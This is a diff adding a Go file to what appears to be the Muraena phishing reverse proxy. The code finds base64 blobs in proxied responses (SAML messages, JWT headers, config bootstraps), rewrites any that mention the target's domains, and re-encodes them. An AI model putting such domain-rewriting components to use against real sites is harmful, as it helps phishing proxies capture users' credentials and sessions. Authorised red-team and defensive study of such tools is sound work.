@@ -0,0 +1,100 @@
+package proxy
+
+import (
+	"encoding/base64"
+	"fmt"
+	"regexp"
+	"strings"
+	"unicode/utf8"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// embeddedBase64 rewrites the base64 blobs embedded in the responses whose decoded content refers to the target
+// or to the external origins, such as SAML messages, JWT headers and configuration bootstraps
+type embeddedBase64 struct {
+	blob *regexp.Regexp
+}
+
+// embedded rewrites the embedded base64 blobs, nil if disabled
+var embedded *embeddedBase64
+
+// newEmbeddedBase64 returns the embedded base64 stage defined in the configuration, nil if disabled
+func newEmbeddedBase64(sess *session.Session) *embeddedBase64 {
+	config := sess.Config.Transform.Base64.Embedded
+	if !config.Enabled {
+		return nil
+	}
+
+	return &embeddedBase64{blob: embeddedBlob(config.MinLength)}
+}
+
+// embeddedBlob matches the standard and URL-safe alphabets, padded or not: the alphabet is told apart from the blob itself
+func embeddedBlob(minLength int) *regexp.Regexp {
+	return regexp.MustCompile(fmt.Sprintf(`[A-Za-z0-9+/_-]{%d,}={0,2}`, minLength))
+}
+
+// Rewrite decodes the blobs referring to any of the domains, transforms and re-encodes them
+// with their original alphabet and padding
+func (e *embeddedBase64) Rewrite(input string, domains []string, transform func(string) string) string {
+	return e.blob.ReplaceAllStringFunc(input, func(blob string) string {
+		encoding := blobEncoding(blob)
+		if encoding == nil {
+			return blob
+		}
+
+		decoded, err := encoding.DecodeString(blob)
+		if err != nil || !utf8.Valid(decoded) || !containsAny(string(decoded), domains) {
+			return blob
+		}
+
+		transformed := transform(string(decoded))
+		if transformed == string(decoded) {
+			return blob
+		}
+
+		return encoding.EncodeToString([]byte(transformed))
+	})
+}
+
+// blobEncoding returns the encoding of the blob, nil if it cannot be base64
+func blobEncoding(blob string) *base64.Encoding {
+	std := strings.ContainsAny(blob, "+/")
+	url := strings.ContainsAny(blob, "-_")
+	if std && url {
+		return nil
+	}
+
+	padded := strings.HasSuffix(blob, "=")
+	if padded && len(blob)%4 != 0 || !padded && len(blob)%4 == 1 {
+		return nil
+	}
+
+	encoding := base64.StdEncoding
+	if url {
+		encoding = base64.URLEncoding
+	}
+	if !padded {
+		encoding = encoding.WithPadding(base64.NoPadding)
+	}
+
+	return encoding
+}
+
+func containsAny(s string, substrings []string) bool {
+	for _, sub := range substrings {
+		if sub != "" && strings.Contains(s, sub) {
+			return true
+		}
+	}
+	return false
+}
+
+// embeddedDomains returns the domains looked for in the embedded blobs
+func (r *Replacer) embeddedDomains() []string {
+	domains := []string{r.Target}
+	for _, origin := range r.GetExternalOrigins() {
+		domains = append(domains, strings.TrimPrefix(origin, "*."))
+	}
+	return domains
+}